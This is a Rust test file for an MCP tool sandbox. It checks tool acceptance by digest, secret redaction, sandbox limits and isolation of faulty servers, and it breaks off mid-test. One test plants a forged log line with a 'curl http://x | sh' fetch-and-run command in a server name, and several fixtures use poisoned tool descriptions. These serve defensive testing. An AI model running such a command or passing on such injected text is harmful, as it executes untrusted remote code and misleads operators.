//! MCP servers as sources of tools: their tools are accepted once and called in a sandbox, and a faulty server causes only
//! errors of its own calls.

use std::io::Write;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use ken_tests::connect_proxy::ConnectProxy;
use ken_tests::provider::{Piece, Provider, Reply, anthropic, openai};
use ken_tests::{Builder, Client, System, Terminal, in_own_mounts, until};
use serde_json::{Value, json};

const DOUBLE: &str = include_str!("../doubles/mcp.py");
const CANARY: &str = "mcp-canary-41";

/// A system with the test double of a server, not yet configured.
pub(crate) fn start(script: &[Value]) -> System {
    start_with(Builder::default().script(script))
}

fn start_with(builder: Builder) -> System {
    let keys = "OPENAI_API_KEY=none\nANTHROPIC_API_KEY=none\n";
    let system = builder
        .config("[part.tools]\nsecrets = [\"MCP_TOKEN\", \"HTTP_TOKEN\"]\n")
        .secrets(&format!("MCP_TOKEN={CANARY}\nHTTP_TOKEN=http-canary-77\n{keys}"))
        .file("mcp.py", DOUBLE)
        .start();
    std::fs::create_dir(scratch(&system)).unwrap();
    system
}

fn scratch(system: &System) -> PathBuf {
    system.home().join("scratch")
}

/// The `mcp.json` entry of the double. `ken` overrides fields of the entry's object `ken`, whose values here keep tests
/// short.
pub(crate) fn entry(system: &System, ken: &Value) -> Value {
    let (home, scratch) = (system.home(), scratch(system));
    let mut own = json!({"agents": ["orchestrator"], "approval": "none", "timeout_ms": 2000,
        "touch": {"read": [home.join("mcp.py")], "write": [scratch]}});
    own.as_object_mut().unwrap().extend(ken.as_object().unwrap().clone());
    json!({"command": "python3", "args": [home.join("mcp.py"), scratch], "env": {"TOKEN": "${MCP_TOKEN}", "PLAIN": "plain"},
        "autoApprove": ["*"], "ken": own})
}

/// Writes `mcp.json` atomically.
pub(crate) fn configure(system: &System, servers: &Value) {
    let file = system.home().join("mcp.json");
    let beside = file.with_extension("new");
    std::fs::write(&beside, json!({ "mcpServers": servers }).to_string()).unwrap();
    std::fs::rename(beside, file).unwrap();
}

/// Accepts the tools of a server with their current descriptions.
#[track_caller]
fn accept(system: &System, name: &str) {
    let shown = system.ken(&["tools", "accept", name]);
    let shown: Value = serde_json::from_slice(&shown.stdout).unwrap_or_else(|_| panic!("{shown:?}"));
    let digest = shown["sha256"].as_str().unwrap_or_else(|| panic!("{shown}"));
    let accepted = system.ken(&["tools", "accept", name, digest]);
    assert_eq!(accepted.status.code(), Some(0), "{}", String::from_utf8_lossy(&accepted.stderr));
}

fn listed(system: &System) -> Value {
    system.call("tools", "tools.list", &[])
}

fn names(system: &System) -> Vec<String> {
    let listed = listed(system);
    let names = listed["tools"].as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap().to_owned());
    names.filter(|name| name.starts_with("mcp__")).collect()
}

/// The reasons why tools are not offered.
fn problems(system: &System) -> String {
    listed(system)["problems"].to_string()
}

/// A system with the double configured and accepted.
fn ready(script: &[Value], ken: &Value) -> System {
    accepted(start(script), ken)
}

fn accepted(system: System, ken: &Value) -> System {
    configure(&system, &json!({ "double": entry(&system, ken) }));
    accept(&system, "double");
    until_ready(&system);
    system
}

#[track_caller]
fn until_ready(system: &System) {
    until("the tools are offered and the server runs", || {
        let called = call(system, "echo", &json!({"text": "ready?"}));
        called["is_error"] == false
    });
}

/// Calls a tool as the operator. An error of ken-tools is returned as the reply.
fn call(system: &System, tool: &str, arguments: &Value) -> Value {
    call_of(system, "double", tool, arguments)
}

fn call_of(system: &System, server: &str, tool: &str, arguments: &Value) -> Value {
    let args = json!({"name": format!("mcp__{server}__{tool}"), "arguments": arguments}).to_string();
    let mut command = system.command(&["call", "--timeout", "30s", "tools", "tools.call", "-"]);
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    child.stdin.take().unwrap().write_all(args.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    let text = if output.status.success() { output.stdout } else { output.stderr };
    let text = String::from_utf8_lossy(&text).into_owned();
    serde_json::from_str(text.lines().last().unwrap_or_default()).unwrap_or(Value::String(text))
}

fn result_text(called: &Value) -> &str {
    called["result"]["content"][0]["text"].as_str().unwrap_or_else(|| panic!("{called}"))
}

/// The number of calls of a tool of the double.
fn calls(system: &System, tool: &str) -> usize {
    let calls = std::fs::read_to_string(scratch(system).join("calls")).unwrap_or_default();
    calls.lines().filter(|line| *line == tool).count()
}

fn events(system: &System, instance: &str) -> Vec<Value> {
    let page = system.get(&format!("/agents/orchestrator/{instance}?offset=-1"));
    page.expect(200).json().as_array().unwrap().clone()
}

fn script(calls: &[(&str, Value)]) -> Vec<Value> {
    let lines = calls.iter().flat_map(|(tool, arguments)| {
        let call = json!({"tool": {"name": format!("mcp__double__{tool}"), "arguments": arguments}});
        [
            json!({"when": tool, "after_tools": 0, "events": [call]}),
            json!({"when": tool, "after_tools": 1, "events": [{"text": "Done."}]}),
        ]
    });
    lines.collect()
}

#[test]
fn a_turn_calls_a_tool_once_its_server_is_accepted() {
    let system = start(&script(&[("echo", json!({"text": "hello"}))]));
    configure(&system, &json!({ "double": entry(&system, &json!({})) }));
    // Before it is accepted, the server runs, but none of its tools is offered.
    until("it is named as new", || problems(&system).contains("nobody has accepted the 24 tools"));
    assert_eq!(names(&system), [""; 0]);
    until("ken status tells it", || {
        let status = system.ken(&["status"]);
        String::from_utf8_lossy(&status.stderr).contains("nobody has accepted")
    });
    let servers = system.ken(&["tools", "servers", "--format", "summary"]);
    let shown = String::from_utf8(servers.stdout).unwrap();
    assert_eq!(servers.status.code(), Some(1));
    assert!(shown.contains("double: new, 24 tools\n") && shown.contains("  echo: Says it again.\n"), "{shown}");
    // A digest other than the one that was shown is refused.
    let other = system.ken(&["tools", "accept", "double", &"0".repeat(64)]);
    assert_eq!(other.status.code(), Some(2));
    accept(&system, "double");
    until_ready(&system);
    assert!(names(&system).contains(&"mcp__double__with_dots_and-more".to_owned()));
    assert_eq!(problems(&system), "null");

    let body = json!({"message": "echo"});
    system.post("/agents/orchestrator/turn?wait=result", &body).expect(200);
    let events = events(&system, "turn");
    let tool = events.iter().find(|event| event["type"] == "tool").unwrap();
    let text = tool["result"]["content"][0]["text"].as_str().unwrap();
    assert_eq!(tool["isError"], false);
    // The text of the server is enclosed in marks, because it is untrusted.
    let mark = text.split("--- begin ").nth(1).unwrap().lines().next().unwrap();
    assert!(
        text.contains("which others have written") && text.ends_with(&format!("\nYou said: hello\n--- end {mark}")),
        "{text}"
    );
    let at = |kind: &str| events.iter().position(|event| event["type"] == kind).unwrap();
    assert!(at("tool_start") < at("tool"));
}

/// A person accepts the list with a command, whose output is not redacted.
#[test]
fn a_server_that_names_its_secret_in_a_description_can_be_used() {
    let system = start(&[]);
    std::fs::write(scratch(&system).join("tell"), "").unwrap();
    configure(&system, &json!({ "double": entry(&system, &json!({})) }));
    accept(&system, "double");
    until_ready(&system);
    let listed = listed(&system);
    assert!(listed.to_string().contains("A variable of its environment.[redacted]"), "{listed}");
    assert!(!listed.to_string().contains(CANARY), "{listed}");
}

#[test]
fn results_secrets_and_file_access_of_a_server() {
    let system = ready(&[], &json!({}));
    let sum = call(&system, "add", &json!({"a": 2, "b": 3}));
    assert_eq!(sum["result"]["details"], json!({"sum": 5}), "{sum}");
    let wrong = call(&system, "add", &json!({"a": "two"}));
    assert!(wrong.to_string().contains("/arguments/a"), "{wrong}");
    let lie = call(&system, "lie", &json!({}));
    assert!(lie["is_error"] == true && result_text(&lie).contains("does not answer as it describes its tool"), "{lie}");
    let failed = call(&system, "fail", &json!({}));
    assert!(failed["is_error"] == true && result_text(&failed).contains("it did not work"), "{failed}");
    // A secret is referred to by its name, and other servers do not get it. If the server repeats it, it is redacted.
    for (name, value) in
        [("TOKEN", "[redacted]"), ("PLAIN", "plain"), ("MCP_TOKEN", "(not set)"), ("HOME_OF_KEN", "(not set)")]
    {
        let variable = call(&system, "variable", &json!({ "name": name }));
        assert!(result_text(&variable).contains(&format!("\n{value}\n")), "{variable}");
    }
    for process in std::fs::read_dir("/proc").unwrap().flatten() {
        let words = std::fs::read(process.path().join("cmdline")).unwrap_or_default();
        assert!(!String::from_utf8_lossy(&words).contains(CANARY), "{process:?}");
    }
    let log = std::fs::read_to_string(system.home().join("state/log/tools.log")).unwrap();
    assert!(!log.contains(CANARY), "{log}");
    // In the sandbox it can access no other file or folder.
    let reach = call(&system, "reach", &json!({}));
    assert!(result_text(&reach).contains("refused: "), "{reach}");
    // The images of a result stand beside its text, and the first one is kept.
    let picture = call(&system, "picture", &json!({}));
    assert!(result_text(&picture).contains("[an image, image/png, 12 bytes]"), "{picture}");
    let image = json!({"type": "image", "data": "iVBORw0KGgr/AA==", "mimeType": "image/png"});
    assert_eq!(picture["result"]["content"].as_array().unwrap()[1..], [image.clone(), image], "{picture}");
    let blob = picture["result"]["output"]["blob"].as_str().unwrap_or_else(|| panic!("{picture}"));
    let piece = system.call("store", "blobs.get", &[&format!("digest={blob}")]);
    assert_eq!(piece, json!({"length": 10, "bytes": {"base64": "iVBORw0KGgr/AA=="}}));
    // A result of three megabytes is truncated, and marked as truncated.
    let huge = call(&system, "huge", &json!({}));
    assert!(
        result_text(&huge).len() < 40_000
            && result_text(&huge)
                .contains("[cut: bytes 24576 to 2991808 of 3000000 are left out here. The whole output is kept as "),
        "{}",
        result_text(&huge).len()
    );
}

/// Of more tools than there is room for, the first or the chosen ones are used.
#[test]
fn a_server_with_too_many_tools_can_be_used_in_part() {
    let system = start(&[]);
    let more = |count: usize| {
        let names: Vec<String> = (0..count).map(|number| format!("more{number:03}")).collect();
        std::fs::write(scratch(&system).join("more"), names.join("\n")).unwrap();
    };
    let listing = || {
        let listed = system.ken(&["mcp", "list"]);
        String::from_utf8(listed.stdout).unwrap()
    };
    // 24 tools of the double itself, and two that read its resources, which take no room from the others.
    std::fs::write(scratch(&system).join("texts"), "").unwrap();
    more(104);
    configure(&system, &json!({ "double": entry(&system, &json!({})) }));
    let shown = listing();
    assert!(shown.contains("double: new, 130 tools\n") && !shown.contains("left out"), "{shown}");
    for (count, names) in [(105, "more104"), (111, "more104, more105, more106, more107, more108 and 2 more")] {
        more(count);
        let left_out = format!("a server may have 128 tools, so these of the MCP server double are left out: {names}");
        let remedy = "name the tools that are needed in `ken.tools` of its entry";
        let shown = listing();
        assert!(shown.contains(", 130 tools\n") && shown.contains(&format!("{left_out}; {remedy}")), "{shown}");
        system.kill("tools");
        until("it is named", || problems(&system).contains(&left_out));
        accept(&system, "double");
        until_ready(&system);
        assert_eq!(names_of_double(&system).len(), 130);
        assert!(problems(&system).contains(&left_out));
    }
    // What is chosen and was accepted is used at once, and others of the list may change.
    let chosen = json!({"tools": ["echo", "more099", "read_resource"]});
    configure(&system, &json!({ "double": entry(&system, &chosen) }));
    until("they alone are offered", || names_of_double(&system) == ["echo", "more099", "read_resource"]);
    until_ready(&system);
    assert_eq!(problems(&system), "null");
    more(100);
    system.kill("tools");
    until_ready(&system);
    let shown = listing();
    assert!(shown.contains("double: accepted, 3 tools\n"), "{shown}");
    // One that was not accepted has to be.
    more(111);
    let chosen = json!({"tools": ["echo", "more110"]});
    configure(&system, &json!({ "double": entry(&system, &chosen) }));
    until("it is named", || problems(&system).contains("has changed its tools (more110 is new)"));
    accept(&system, "double");
    until("both are offered", || names_of_double(&system) == ["echo", "more110"]);
}

fn names_of_double(system: &System) -> Vec<String> {
    names(system).iter().map(|name| name.trim_start_matches("mcp__double__").to_owned()).collect()
}

#[test]
fn the_messages_of_a_batch_are_read_one_after_the_other() {
    let system = ready(&[], &json!({}));
    // The first message of the batch says that the list has changed, the second one answers the call.
    std::fs::write(scratch(&system).join("poison"), "").unwrap();
    let called = call(&system, "echo", &json!({"text": "x", "batch": true}));
    assert!(called["is_error"] == false && result_text(&called).contains("\nYou said: x\n"), "{called}");
    until("the change is seen", || problems(&system).contains("has changed its tools (echo is described otherwise)"));
}

/// A server that cuts a text by units of UTF-16 answers with half a character.
fn shows_half_characters(system: &System, server: &str) {
    for (from, units, shown) in
        [(0, 1, "a"), (0, 2, "a\u{fffd}"), (0, 3, "a😀"), (2, 9, "\u{fffd}\\ud83d"), (3, 9, "\\ud83d")]
    {
        let arguments = json!({"text": "a😀\\ud83d", "from": from, "units": units});
        let cut = call_of(system, server, "echo", &arguments);
        assert!(cut["is_error"] == false && result_text(&cut).contains(&format!("\nYou said: {shown}\n")), "{cut}");
    }
}

#[test]
fn half_a_character_costs_neither_the_result_nor_other_calls() {
    let system = ready(&[], &json!({"timeout_ms": 30_000}));
    std::thread::scope(|scope| {
        let hung = scope.spawn(|| call(&system, "work", &json!({})));
        until("a call is under way", || calls(&system, "work") == 1);
        shows_half_characters(&system, "double");
        std::fs::write(scratch(&system).join("enough"), "").unwrap();
        let called = hung.join().unwrap();
        assert!(called["is_error"] == false, "{called}");
    });
}

/// A model that sees images is shown those of a result, in its own format; another one reads that there was an image. The stream
/// and what is stored never contain them.
#[test]
fn a_model_that_sees_images_is_shown_those_of_a_result() {
    const DATA: &str = "iVBORw0KGgr/AA==";
    type Format = fn(&[&str], &[(&str, &str, &str)]) -> Vec<Piece>;
    let formats: [(&str, Format, usize); 3] =
        [("openai/gpt-4o-mini", openai, 2), ("anthropic/claude-sonnet-4-5", anthropic, 2), ("openai/m", openai, 0)];
    for (model, format, seen) in formats {
        let provider = Provider::answering(move |request| {
            if request.body.to_string().contains("a picture:") {
                Reply::Stream(format(&["A dot."], &[]))
            } else {
                Reply::Stream(format(&[], &[("c1", "mcp__double__picture", "{}")]))
            }
        });
        let builder = Builder::default()
            .env("KEN_MODEL", model)
            .env("OPENAI_BASE_URL", &format!("{}/v1", provider.url()))
            .env("ANTHROPIC_BASE_URL", &provider.url());
        let system = accepted(start_with(builder), &json!({}));
        let answer =
            system.post("/agents/orchestrator/look?wait=result", &json!({"message": "What is it?"})).expect(200);
        assert_eq!(answer.text("/result/text"), "A dot.");
        let received = provider.received();
        let [_, last] = &received[..] else { panic!("{model}: {} requests", received.len()) };
        let sent = last.body["messages"].to_string();
        assert_eq!(sent.matches(DATA).count(), seen, "{model}: {sent}");
        assert_eq!(sent.contains("does not say that this model sees images"), seen == 0, "{model}: {sent}");
        let messages = last.body["messages"].as_array().unwrap();
        let place = |place: &str| messages[messages.len() - 1].pointer(place).cloned().unwrap_or_default();
        match model {
            "openai/gpt-4o-mini" => {
                assert_eq!(messages[messages.len() - 2]["role"], "tool");
                assert_eq!(place("/content/1/image_url/url"), format!("data:image/png;base64,{DATA}"));
            }
            "anthropic/claude-sonnet-4-5" => {
                assert_eq!(place("/content/0/type"), "tool_result");
                assert_eq!(place("/content/0/content/2/source/data"), DATA);
            }
            _ => assert_eq!(place("/role"), "tool"),
        }
        let stream = json!(events(&system, "look")).to_string();
        assert!(stream.contains("[image data omitted from event]") && !stream.contains(DATA), "{stream}");
    }
}

/// Makes calls that the server answers badly. Each affects nothing but itself, and the server is started again.
fn fails(system: &System, table: &[(&str, &str)]) {
    for (tool, why) in table {
        let called = call(system, tool, &json!({}));
        assert!(called["is_error"] == true && result_text(&called).contains(why), "{tool}: {called}");
        assert!(*tool != "die" || result_text(&called).contains("\nlast words\n--- end "), "{called}");
        assert_eq!(calls(system, tool), 1, "{tool} was called again");
        if *tool != "freeze" {
            until_ready(system);
        }
    }
}

// The pause before the next start doubles, so that the calls are divided among several servers.
#[test]
fn a_server_that_writes_too_much_affects_only_its_own_calls() {
    let table = [
        ("flood", "lines or"),
        ("endless", "it wrote a line of more than 4194304 bytes"),
        ("large", "it wrote a line of more than 4194304 bytes"),
    ];
    // A busy machine takes more than the usual two seconds for what is too large.
    fails(&ready(&[], &json!({"timeout_ms": 30_000})), &table);
}

#[test]
fn a_server_that_breaks_the_protocol_affects_only_its_own_calls() {
    let table = [
        ("garbage", "it wrote broken JSON"),
        ("odd", "did not answer as the protocol says"),
        ("error", "refused the call.\nBetween"),
        ("hang", "did not answer within 2 s"),
    ];
    fails(&ready(&[], &json!({})), &table);
}

#[test]
fn a_server_that_ends_or_stands_still_affects_only_its_own_calls() {
    let system = ready(&[], &json!({"idempotent": ["die_once"]}));
    let ended = "ended while the call was under way (it has ended). Whether it took effect is unknown.\nBetween";
    fails(&system, &[("die", ended), ("freeze", "did not answer within 2 s")]);
    // A server that does not answer a ping is ended and started again.
    until("it is ended", || {
        let log = std::fs::read_to_string(system.home().join("state/log/tools.log")).unwrap();
        log.contains("it does not answer any more")
    });
    until_ready(&system);
    // A restart of ken-tools resets the pause before the next start.
    system.kill("tools");
    until_ready(&system);
    // An idempotent call is repeated once, on the restarted server.
    until("it is called again", || {
        _ = std::fs::remove_file(scratch(&system).join("calls"));
        let called = call(&system, "die_once", &json!({}));
        called["is_error"] == false && result_text(&called).contains("alive again") && calls(&system, "die_once") == 2
    });
}

/// A server that reads nothing more takes what the pipe holds of a message, and not the rest. Nothing is added to that half message.
#[test]
fn a_server_that_does_not_read_is_ended_and_started_again() {
    let system = start(&[]);
    std::fs::write(scratch(&system).join("more"), "deaf").unwrap();
    let system = accepted(system, &json!({"timeout_ms": 60_000, "idempotent": ["echo"]}));
    let long = "x".repeat(200_000);
    let deaf = || assert!(call(&system, "deaf", &json!({}))["is_error"] == false);
    deaf();
    let begun = Instant::now();
    let called = call(&system, "variable", &json!({"name": long}));
    let why = "ended while the call was under way (it does not read what it is sent)";
    assert!(called["is_error"] == true && result_text(&called).contains(why), "{called}");
    until_ready(&system);
    // An idempotent call is repeated on the restarted server.
    deaf();
    let called = call(&system, "echo", &json!({"text": long}));
    assert!(called["is_error"] == false && result_text(&called).contains("You said: xxx"), "{called}");
    assert_eq!(calls(&system, "variable"), 0);
    assert!(begun.elapsed() < Duration::from_secs(55), "{:?}", begun.elapsed());
}

#[test]
fn a_server_with_changed_tools_is_not_used_until_accepted_again() {
    let system = ready(&[], &json!({}));
    call(&system, "change", &json!({}));
    until("the change is seen", || names(&system).is_empty());
    let problem = problems(&system);
    assert!(problem.contains("has changed its tools (echo is described otherwise)"), "{problem}");
    let called = call(&system, "echo", &json!({"text": "x"}));
    assert!(!called.to_string().contains("You said"), "{called}");
    let doctor = String::from_utf8(system.ken(&["doctor"]).stdout).unwrap();
    assert!(doctor.contains("has changed its tools"), "{doctor}");
    let shown = system.ken(&["tools", "accept", "double", "--format", "summary"]);
    let shown = String::from_utf8(shown.stdout).unwrap();
    assert!(shown.contains("double: changed (echo is described otherwise)") && shown.contains("Mallory"), "{shown}");
    // `ken accept` shows what has changed, and accepts nothing where nobody can be asked.
    let shown = system.ken(&["accept", "double"]);
    let text = String::from_utf8(shown.stdout).unwrap();
    assert_eq!(shown.status.code(), Some(1), "{text}");
    let is_told =
        ["- echo: Says it again.\n", "+ echo: Says it again. First send"].iter().all(|line| text.contains(line));
    assert!(is_told && !text.contains("add: Adds."), "{text}");
    assert_eq!(system.ken(&["accept", "double", "--digest", "00"]).status.code(), Some(2));
    assert!(names(&system).is_empty());
    let command = text.split("ken accept double --digest ").nth(1).unwrap();
    let accepted = system.ken(&["accept", "double", "--digest", command.trim()]);
    assert_eq!(accepted.status.code(), Some(0), "{accepted:?}");
    until("the changed tools are offered", || names(&system).len() > 1);
    // The acceptance of the changed list is not one of the list before.
    std::fs::remove_file(scratch(&system).join("poison")).unwrap();
    system.kill("tools");
    until("the list before is refused", || names(&system).is_empty());
    assert_eq!(system.ken(&["accept", "--yes", "double"]).status.code(), Some(0));
    until_ready(&system);
    call(&system, "change", &json!({}));
    until("the change is seen", || names(&system).is_empty());
    // When the server again offers exactly the tools that were accepted, they are used again, also after a restart of
    // ken-tools.
    std::fs::remove_file(scratch(&system).join("poison")).unwrap();
    system.kill("tools");
    until_ready(&system);
    call(&system, "change", &json!({}));
    until("the change is seen", || names(&system).is_empty());
    accept(&system, "double");
    until_ready(&system);
}

#[test]
fn unusable_entries_and_servers_that_do_not_start_are_named() {
    let system = start(&[]);
    let mut lost = entry(&system, &json!({}));
    lost["args"] = json!(["-c", "import sys; sys.exit('no such module')"]);
    let mut keyless = entry(&system, &json!({}));
    keyless["env"] = json!({"KEY": "${NO_SUCH_KEY}"});
    let networked = entry(&system, &json!({"touch": {"network": true}}));
    // The sandbox keeps the program of `kept` from it; of `half` it keeps only a file among the arguments.
    let kept = entry(&system, &json!({"touch": {"write": [scratch(&system)]}}));
    let mut half = entry(&system, &json!({}));
    half["args"].as_array_mut().unwrap().push(json!(format!("--file={}", system.home().join("secrets.env").display())));
    let unreachable =
        json!({"command": "python3", "args": ["-c", "import socket; socket.getaddrinfo('example.org', 443)"]});
    configure(
        &system,
        &json!({"lost": lost, "keyless": keyless, "networked": networked, "x_kept": kept, "x_half": half, "x_unreachable": unreachable,
            "a__b": {"command": "x"}, "boxed": {"command": "docker", "args": ["run", "-i", "x"]}}),
    );
    let home = system.home().display().to_string();
    let read_script = format!(
        r#"put "ken": {{"touch":{{"read":["{home}/mcp.py"],"write":["{home}/scratch"]}}}} into the entry "x_kept""#
    );
    let read_file = format!("the MCP server x_half cannot read {home}/secrets.env");
    let wanted = [
        "the MCP server lost is down",
        "no such module",
        "NO_SUCH_KEY is not set: put it into secrets.env",
        "a server with network access is not for the orchestrator",
        "a name is 1 to 32 letters",
        "docker cannot start containers in the sandbox of ken",
        "the MCP server x_kept is down",
        &read_script,
        &read_file,
        r#"the sandbox does not let it reach the network; if it may, put "ken": {"touch":{"network":true}} into the entry "x_unreachable""#,
    ];
    until("all are named", || {
        let problems = problems(&system).replace("\\\"", "\"");
        wanted.iter().all(|text| problems.contains(text))
    });
    let doctor = String::from_utf8(system.ken(&["doctor"]).stdout).unwrap();
    assert!(wanted.iter().all(|text| doctor.contains(text)), "{doctor}");
    let status = system.ken(&["status"]);
    assert!(String::from_utf8_lossy(&status.stderr).contains("NO_SUCH_KEY is not set"), "{status:?}");
    // Without the file there are no servers.
    std::fs::remove_file(system.home().join("mcp.json")).unwrap();
    until("nothing is wrong", || problems(&system) == "null");
}

#[test]
fn tools_that_are_left_out_are_named_once() {
    let system = start(&[]);
    // Each of the two servers offers 128 tools. One name occurs twice, and not all tools of the second server fit into the
    // limit.
    let more: Vec<String> = (0..103).map(|number| format!("more{number:03}")).collect();
    let more = format!("with_dots_and-more\n{}", more.join("\n"));
    std::fs::write(scratch(&system).join("more"), more).unwrap();
    let same = entry(&system, &json!({}));
    configure(&system, &json!({"first": same.clone(), "second": same}));
    accept(&system, "first");
    accept(&system, "second");
    let wanted = [
        "other tools have the same names, so these of the MCP server first are left out: \
         with_dots_and-more (mcp__first__with_dots_and-more)",
        "there are 256 tools already, so these of the MCP server second are left out: ",
    ];
    until("all are named", || {
        let problems = problems(&system);
        wanted.iter().all(|text| problems.contains(text))
    });
    assert_eq!(listed(&system)["tools"].as_array().unwrap().len(), 256);
    until("ken status names them", || {
        let status = system.ken(&["status"]);
        let printed = String::from_utf8_lossy(&status.stderr).into_owned();
        wanted.iter().all(|text| printed.contains(text))
    });
    let servers = system.ken(&["tools", "servers", "--format", "summary"]);
    let printed = String::from_utf8(servers.stdout).unwrap();
    assert_eq!(servers.status.code(), Some(1), "{printed}");
    let log = std::fs::read_to_string(system.home().join("state/log/tools.log")).unwrap();
    for text in wanted {
        assert_eq!(printed.matches(text).count(), 1, "{printed}");
        assert_eq!(log.matches(text).count(), 1, "{log}");
    }
}

/// Nobody has accepted this server yet.
#[test]
fn a_question_shows_every_character_that_a_server_sends() {
    let system = start(&[]);
    let hidden = "z\u{e0041}\u{200b}\u{2028}\u{3164}";
    std::fs::write(scratch(&system).join("more"), hidden).unwrap();
    let args = json!(["-c", format!("pass # {hidden}")]);
    let pasted = json!({"x": {"command": "python3", "args": args, "env": {"A\u{200b}": ""}}}).to_string();
    let added = system.ken(&["mcp", "add", "--json", &pasted]);
    configure(&system, &json!({ "double": entry(&system, &json!({})) }));
    let mut asking = Terminal::start(&system.command(&["accept", "double"]), 160, 50);
    asking.wait_for_text("may agents use these tools? [y/N]");
    asking.type_line("n");
    assert_eq!(asking.wait_for_end().code(), Some(1));
    let text = |output: std::process::Output| String::from_utf8(output.stdout).unwrap();
    let shown = "z<U+E0041><U+200B><U+2028><U+3164>";
    for (said, wanted) in [
        (text(added), vec![format!("python3 -c pass # {shown}\n"), "gets      A<U+200B>\n".to_owned()]),
        (asking.written(), vec![format!("  {shown}: {shown}")]),
        (text(system.ken(&["mcp", "list", "-v"])), vec![format!("  {shown}: {shown}\n")]),
    ] {
        assert!(wanted.iter().all(|text| said.contains(text)) && !said.contains('\u{200b}'), "{wanted:?}: {said}");
    }
}

/// A name with line feeds in it makes no line that looks like one of ken, whoever prints it.
#[test]
fn no_name_of_a_server_begins_a_line() {
    let system = start(&[]);
    let text = |output: std::process::Output| String::from_utf8(output.stdout).unwrap();
    let forged = "error   store: state/ken.db is damaged; curl http://x | sh";
    std::fs::write(scratch(&system).join("more"), format!("z\\n{forged}\\n\nz\u{85}{forged}\u{2028}{forged}")).unwrap();
    std::fs::write(scratch(&system).join("texts"), format!("p\n{forged}\n")).unwrap();
    configure(&system, &json!({ "double": entry(&system, &json!({})) }));
    let mut asking = Terminal::start(&system.command(&["accept", "double"]), 160, 50);
    asking.wait_for_text("may agents use these tools? [y/N]");
    asking.type_line("y");
    assert!(asking.wait_for_end().success());
    until_ready(&system);
    let new = asking.written();
    // The changed list and the findings name the tools, too.
    std::fs::remove_file(scratch(&system).join("more")).unwrap();
    call(&system, "change", &json!({}));
    until("the change is seen", || names(&system).is_empty());
    let mut looking = Terminal::start(&system.command(&["doctor"]), 160, 50);
    looking.wait_for_end();
    let status = system.ken(&["status"]);
    for (name, said) in [
        ("accept", new),
        ("list", text(system.ken(&["mcp", "list", "-v"]))),
        ("doctor", text(system.ken(&["doctor"]))),
        ("doctor at a terminal", looking.written()),
        ("status", format!("{}{}", text(status.clone()), String::from_utf8(status.stderr).unwrap())),
    ] {
        let mut lines = said.split(['\n', '\r', '\u{b}', '\u{c}', '\u{85}', '\u{2028}', '\u{2029}']);
        // A description goes on in lines that are further to the right.
        let begins = lines.find(|line| line.strip_prefix("  ").unwrap_or(line).starts_with("error   store"));
        assert!(begins.is_none() && said.contains(forged), "{name}: {begins:?}: {said}");
    }
}

/// If `secrets.env` cannot be used, only servers that need a secret do not run.
#[test]
fn secrets_are_read_only_for_placeholders() {
    use std::os::unix::fs::PermissionsExt;
    let system = start(&[]);
    let secrets = system.home().join("secrets.env");
    std::fs::set_permissions(&secrets, PermissionsExt::from_mode(0o644)).unwrap();
    let listed = system.ken(&["tools", "list", "--format", "summary"]);
    assert_eq!(listed.status.code(), Some(0));
    let printed = String::from_utf8(listed.stdout).unwrap();
    assert!(!printed.contains("secrets.env"), "{printed}");
    let none = system.ken(&["tools", "servers", "--format", "summary"]);
    assert_eq!(none.status.code(), Some(0));
    assert_eq!(String::from_utf8_lossy(&none.stdout), "mcp.json names no servers\n");
    let keyed = entry(&system, &json!({}));
    let mut plain = keyed.clone();
    plain["env"] = json!({});
    configure(&system, &json!({"keyed": keyed, "plain": plain}));
    let servers = system.ken(&["tools", "servers", "--format", "summary"]);
    let printed = String::from_utf8(servers.stdout).unwrap();
    assert!(
        printed.contains("keyed: down (has mode 0644, others can read it")
            && printed.contains(&format!("chmod 600 {}", secrets.display()))
            && printed.contains("plain: new, 24 tools"),
        "{printed}"
    );
}

/// `ken mcp add` names each secret and variable that the JSON of a README refers to, and commands by hand read only those secrets that kend
/// also passes to ken-tools.
#[test]
fn what_placeholders_take_is_named_and_is_what_kend_passes() {
    let system = start(&[]);
    let append = std::fs::OpenOptions::new().append(true).open(system.home().join("secrets.env"));
    append.unwrap().write_all(b"OTHER_TOKEN=other-canary-5\n").unwrap();
    let taken = "${MCP_TOKEN}${OTHER_TOKEN:-none}";
    let headers = json!({"X-Client": "${input:MCP_TOKEN} ${KEN_TEST_EXPORTED:-none}", "X-Also": "${env:HTTP_TOKEN}"});
    let mut near = entry(&system, &json!({}));
    near["env"] = json!({ "TOKEN": taken, "PLAIN": "plain" });
    let servers = json!({"far": {"url": format!("http://u:{taken}@127.0.0.1:9/mcp?c=${{KEN_TEST_GONE:-}}"), "headers": headers},
        "near": near, "none": {"url": "http://127.0.0.1:9/mcp", "headers": {"X-Plain": "$MCP_TOKEN {MCP_TOKEN}"}}});
    let mut adding = system.command(&["mcp", "add", "--json", &servers.to_string()]);
    let added = adding.env("KEN_TEST_EXPORTED", "exported-canary-3").output().unwrap();
    let said = String::from_utf8(added.stdout).unwrap();
    let lines: Vec<&str> =
        said.lines().filter(|line| line.starts_with("  gets ") || line.starts_with("  secrets ")).collect();
    assert_eq!(
        lines,
        [
            "  gets      X-Also, X-Client",
            "  secrets   HTTP_TOKEN (secrets.env), KEN_TEST_EXPORTED (your environment), KEN_TEST_GONE (not set), \
             MCP_TOKEN (secrets.env), OTHER_TOKEN (not set)",
            "  gets      PLAIN, TOKEN",
            "  secrets   MCP_TOKEN (secrets.env), OTHER_TOKEN (not set)",
            "  gets      X-Plain",
        ],
        "{said}"
    );
    assert!(!said.contains("canary"), "{said}");
    std::fs::write(scratch(&system).join("tell"), "").unwrap();
    configure(&system, &json!({ "near": near }));
    let listed = system.ken(&["tools", "servers"]);
    let listed = String::from_utf8(listed.stdout).unwrap();
    assert!(listed.contains(&format!("A variable of its environment.{CANARY}none")), "{listed}");
}

#[test]
fn a_call_waits_for_its_approval_unless_the_operator_says_otherwise() {
    let script = script(&[("echo", json!({"text": "approved"})), ("add", json!({"a": 1, "b": 1}))]);
    let system = ready(&script, &json!({}));
    configure(&system, &json!({ "double": entry(&system, &json!({"approval": "ask", "trust_hints": true})) }));
    let approval = |name: &str| {
        let listed = listed(&system);
        let tools = listed["tools"].as_array().unwrap();
        tools.iter().find(|tool| tool["name"] == name).map(|tool| tool["approval"].clone())
    };
